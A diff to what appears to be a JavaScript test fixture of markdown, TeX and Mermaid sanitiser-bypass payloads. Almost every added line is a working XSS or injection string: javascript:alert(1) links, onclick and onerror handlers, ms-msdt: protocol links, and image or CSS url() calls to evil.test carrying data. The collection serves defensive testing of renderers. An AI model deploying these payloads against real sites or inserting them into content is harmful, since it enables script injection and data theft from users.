@@ -24,6 +24,85 @@ function family(name, texts, { namesHost = false } = {}) {
 }
 
 // ---------------------------------------------------------------- apart from the label
+family('a target after more blanks than are read', [
+  `[x](${' '.repeat(129)}javascript:alert(1))`,
+  `[x]:${' '.repeat(129)}javascript:alert(1)\n\n[x]`,
+  ...['\u00a0', '\u3000', '\u2028'].map((blank) => `[x](${blank.repeat(65)}javascript:alert(1))`),
+  `[d]:${'\u00a0'.repeat(65)}javascript:alert(1)\n\n[d]`,
+  `${'>'.repeat(65)}[x]:\n${'>'.repeat(65)}javascript:alert(1)\n\n[x]`,
+  '[x](\u2424ms-msdt:/id)',
+  '[d]:\u2424ms-msdt:/x\n\n[d]',
+  '> [x](java\n> script:alert(1))',
+]);
+family('directives with other names', [
+  ':a\u00e9{onclick=alert(1)}',
+  ':\u6f22{onclick=alert(1)}',
+  `:${'a'.repeat(62)}{onclick=alert(1)}`,
+  `:a[${'x'.repeat(402)}]{onclick=alert(1)}`,
+  ...[
+    'button',
+    'form',
+    'textarea',
+    'plaintext',
+    'dialog',
+    'title',
+    'template',
+    'xmp',
+    'iframe',
+    'object',
+    'svg',
+  ].map((name) => `:${name}[x]`),
+  ':::iframe\nx\n:::',
+  ':octocat:',
+]);
+family('TeX commands by other means', [
+  `$\\url${' '.repeat(21)}{javascript:alert(1)}$`,
+  '$\\let\\b\\url 1\\b{javascript:alert(1)}$',
+  '$\\let~\\url~{javascript:alert(1)}$',
+  '$\\def x{{javascript:alert(1)}}\\expandafter\\url x$',
+  '$\\url&#123;javascript:alert(1)}$',
+  '$\\url&lcub;javascript:alert(1)}$',
+  '$\\let\\b\\style\\b{background:url(http://evil.test)}{x}$',
+  '$\\unicode[a;background:url(http://evil.test)]{65}$',
+  '```mathx\n\\href{javascript:alert(1)}{x}\n```',
+  '```mathml\n\\href{javascript:alert(1)}{x}\n```',
+]);
+family('an image apart from its label', [
+  '![x]     [d]\n\n[d]: http://evil.test/?d=S',
+  '![x]\n     [d]\n\n[d]: http://evil.test/?d=S',
+  '![x]\n> [d]\n\n[d]: http://evil.test/?d=S',
+  '![x]\u2424[d]\n\n[d]: http://evil.test/?d=S',
+]);
+family('code that some renderers end earlier', [
+  '$$\n`\n$$\n`![x](http://evil.test/?d=S)`',
+  '\\[\n`\n\\]\n`![x](http://evil.test/?d=S)`',
+  '+++\n`\n+++\n`![x](http://evil.test/?d=S)`',
+  '[a]:\nb\n"\n\n```\n"\n![x](http://evil.test/?d=S)\n```',
+  '[a]:\nb "\n\n```\n"\n![x](http://evil.test/?d=S)\n```',
+  '[`] ![x](http://evil.test/?d=S)`\n\n[`]: e',
+  '`\u2424\u2424![x](http://evil.test/?d=S)`',
+  '```\nb\u2424```\u2424![x](http://evil.test/?d=S)\n```',
+  '`b|![x](http://evil.test/?d=S)`\n\u00a0-|-\n1|2',
+  '[d]\n\n[d]:ms-msdt:/x\u2028 a',
+  '[d]:\n//evil.test/a\u2028![] [d]',
+]);
+family('a title that showdown joins with the next line', [
+  '[d]: d\n\n"<"\nimg src=x onerror=alert(1)>',
+  '[d]: d\n\n"[x]"\n(javascript:alert(1))',
+  '[d]: d\n\n"!"\n[x](//evil.test/a)',
+  '[d]: d\n\n"[x](java"\nscript:alert(1))',
+  '[d]: a long enough definition\n\n\n"<"\n\n\nimg src=x onerror=alert(1)>',
+  '[d]: http://a.b/c\r\n\r\n(<)\r\nimg src=x onerror=alert(1)>',
+]);
+family('a tag after an escaped bracket', [
+  '\\<<b> onclick=alert(1)>',
+  '\\<<blockquote> onclick=alert(1)>',
+  '\\<<em> href=javascript:alert(1)>',
+]);
+family('a quote after the first parenthesis', [
+  `[x](a(b)"${'c'.repeat(210)}/onmouseover=alert(1))`,
+  '[x](/a onmouseover=alert(1) b) [y](a $`)',
+]);
 family('a target after blanks', [
   ...[' ', '\t', '  ', ' '.repeat(100), ' '.repeat(2000)].flatMap((blanks) => [
     `[a]${blanks}(javascript:alert(1))`,
@@ -733,6 +812,15 @@ const MERMAID = [
   'erDiagram\nA["<img src=http://evil.test>"] {\nstring b\n}',
   'graph TD\nA["$$\\href{javascript:alert(1)}{x}$$"]',
   'requirementDiagram\nrequirement a {\nid: 1\ntext: "<img src=http://evil.test>"\nrisk: high\nverifymethod: test\n}',
+  'sequenceDiagram\nparticipant A\nproperties A: {"icon": "http://evil.test/a.png"}',
+  '---\nconfig:\n  fontFamily: "x; background: url(http://evil.test/a)"\n---\ngraph TD\nA[x]',
+  '---\nconfig:\n  ? "theme\\\n  CSS"\n  : "* { background: url(http://evil.test/a) }"\n---\ngraph TD\nA[x]',
+  '---\nconfig:\n  fontFamily: "x; background: u\\72l(http://evil.test/a)"\n---\ngraph TD\nA[x]',
+  'classDiagram\nclass A\r  style A background:url(http://evil.test/a)',
+  `classDiagram\nclass A\n${' '.repeat(40)}style A background:url(http://evil.test/a)`,
+  'stateDiagram-v2\n[*] --> A\n\u00a0classDef b background:url(http://evil.test/a)\nclass A b',
+  'gantt\nsection a\nb :a1, 2024-01-01, 1d\rclick a1 href "ms-msdt:/x"',
+  '---\nconfig:\n  kanban:\n    ticketBaseUrl: "ms-msdt:/#TICKET#"\n---\nkanban\n  a[b]\n    c[d]@{ ticket: 1 }',
 ];
 export const MERMAID_PAYLOADS = MERMAID.flatMap((diagram) => [
   `\`\`\`mermaid\n${diagram}\n\`\`\``,
